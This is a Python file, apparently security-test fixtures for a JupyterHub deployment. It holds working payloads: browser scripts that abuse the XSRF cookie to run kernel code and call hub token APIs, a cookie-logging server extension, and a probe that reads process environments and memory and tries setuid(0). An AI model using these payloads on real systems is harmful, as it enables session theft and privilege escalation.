"""What a hostile lead runs: in a browser, in their own server, in a kernel of theirs."""

RUN = """async ([base, code]) => {
  const token = decodeURIComponent(document.cookie.match(/_xsrf=([^;]+)/)[1]);
  const headers = { "X-XSRFToken": token, "Content-Type": "application/json" };
  const made = await fetch(base + "api/kernels", { method: "POST", headers, body: "{}" });
  const { id } = await made.json();
  const socket = new WebSocket((location.origin + base).replace("http", "ws") + `api/kernels/${id}/channels`);
  await new Promise((done) => (socket.onopen = done));
  const header = { msg_id: "1", session: "1", username: "", msg_type: "execute_request", version: "5.3" };
  const content = { code, silent: false, store_history: false, user_expressions: {}, allow_stdin: false };
  socket.send(JSON.stringify({ header, content, parent_header: {}, metadata: {}, channel: "shell", buffers: [] }));
  let said = "";
  return new Promise((done) => {
    socket.onmessage = ({ data }) => {
      const message = JSON.parse(data);
      if (message.msg_type === "stream") said += message.content.text;
      if (message.msg_type === "error") said += message.content.traceback.join("\\n");
      // Idle comes after all that was said; the reply comes by another channel, and may be there before.
      const { msg_type, content, parent_header } = message;
      if (msg_type === "status" && content.execution_state === "idle" && parent_header.msg_id === "1") done(said);
    };
  });
}"""
OPEN_SOCKET = """async () => {
  const base = location.pathname.replace(/lab$/, "");
  const token = decodeURIComponent(document.cookie.match(/_xsrf=([^;]+)/)[1]);
  const asked = { method: "POST", headers: { "X-XSRFToken": token }, body: "{}" };
  const kernel = await (await fetch(base + "api/kernels", asked)).json();
  window.socket = new WebSocket((location.origin + base).replace("http", "ws") + `api/kernels/${kernel.id}/channels`);
  await new Promise((done) => (window.socket.onopen = done));
}"""
# What a script can try against our pages with the cookies of whoever looks at it.
ATTACK = """async ([origin, victim]) => {
  const read = async (path, options) => {
    try {
      const answer = await fetch(origin + path, { credentials: "include", ...options });
      return answer.type === "opaque" ? "opaque" : await answer.text();
    } catch (error) { return "blocked"; }
  };
  const frame = document.createElement("iframe");
  frame.src = origin + "/services/dashboards/";
  document.body.append(frame);
  await new Promise((done) => { frame.onload = done; setTimeout(done, 3000); });
  let framed = "blocked";
  try { framed = frame.contentDocument?.body?.innerText ?? "blocked"; } catch (error) {}
  const popup = window.open(origin + "/services/dashboards/");
  await new Promise((done) => setTimeout(done, 1500));
  let opened = "blocked";
  try { opened = popup?.document?.body?.innerText ?? "blocked"; } catch (error) {}
  popup?.close();
  const json = { method: "POST", headers: { "Content-Type": "application/json" }, body: "{}" };
  const found = {
    page: await read("/services/dashboards/"),
    user: await read("/hub/api/user"),
    home: await read("/hub/home"),
    framed,
    opened,
    server: await read(`/hub/api/users/${victim}/server`, json),
    token: await read(`/hub/api/users/${victim}/tokens`, { method: "POST", mode: "no-cors", body: "{}" }),
  };
  for (const name of ["jupyterhub-session-id", "jupyterhub-hub-login", "service-dashboards", "_xsrf"])
    for (const path of ["/", "/hub/", "/services/dashboards/"])
      document.cookie = `${name}=tossed; path=${path}; domain=${new URL(origin).hostname}`;
  return found;
}"""
# A lead's own settings file is code that the lead's server runs.
SETTINGS_FILE = """
import sys, types
from tornado.web import RequestHandler

class Evil(RequestHandler):
    def get(self):
        open("cookies", "a").write(self.request.headers.get("Cookie", "") + "\\n")
        self.finish("<title>evil</title><body>evil</body>")

def load(app):
    app.web_app.add_handlers(".*", [(app.base_url + "evil", Evil)])

module = types.ModuleType("evil")
module._load_jupyter_server_extension = load
sys.modules["evil"] = module
c.ServerApp.jpserver_extensions = {"evil": True}
"""


INSIDE = """
import glob, json, os, sqlite3

def tried(action):
    try:
        return repr(action())
    except Exception as error:
        return type(error).__name__

def environments():
    found = []
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            found.append(open(path).read())
        except OSError:
            pass
    return found

home, other = {home!r}, {other!r}
print(json.dumps({{
    "account": os.getuid(),
    "groups": os.getgroups(),
    "privileges": open("/proc/self/status").read().split("NoNewPrivs:")[1].split()[0],
    "paths": {{path: tried(lambda: os.listdir(path)) for path in {paths!r}}},
    "files": {{path: tried(lambda: open(path).read()) for path in {files!r}}},
    "listing": tried(lambda: os.listdir(home + "/people")),
    "settings": sorted(name for name in os.environ),
    "secrets": [secret for secret in {secrets!r} if any(secret in text for text in environments())],
    "signal": tried(lambda: os.kill({hub}, 0)),
    "memory": tried(lambda: open("/proc/{hub}/mem", "rb").read(1)),
    "become": [tried(lambda: os.setuid(0)), tried(lambda: os.setuid(other))],
    "user": os.popen("id -u").read().strip(),
}}))
"""

# What a lead does in a notebook, honestly.
ASKED = """
import contextlib, io, json
import agent_analytics as aa

session = aa.connect()
rows = session.answer(aa.Query(["runs"], by=["team"], period=aa.Last(7))).rows
table = session.sql('select team, "user" from analytics.runs order by 1, 2')
with contextlib.redirect_stdout(io.StringIO()):
    get_ipython().run_line_magic("load_ext", "agent_analytics")
    drawn = get_ipython().run_line_magic("sql", 'select team, "user" from analytics.runs order by 1, 2')
print(json.dumps({
    "answer": sorted([str(value) if not isinstance(value, int) else value for value in row] for row in rows),
    "sql": table.to_numpy().tolist(),
    "magic": [list(row) for row in drawn],
    "cost": str(session.answer(aa.Query(["cost"], period=aa.Last(7))).rows[0][0]),
    "sum": str(session.sql("select sum(cost) as cost from analytics.runs").cost[0]),
}))
"""
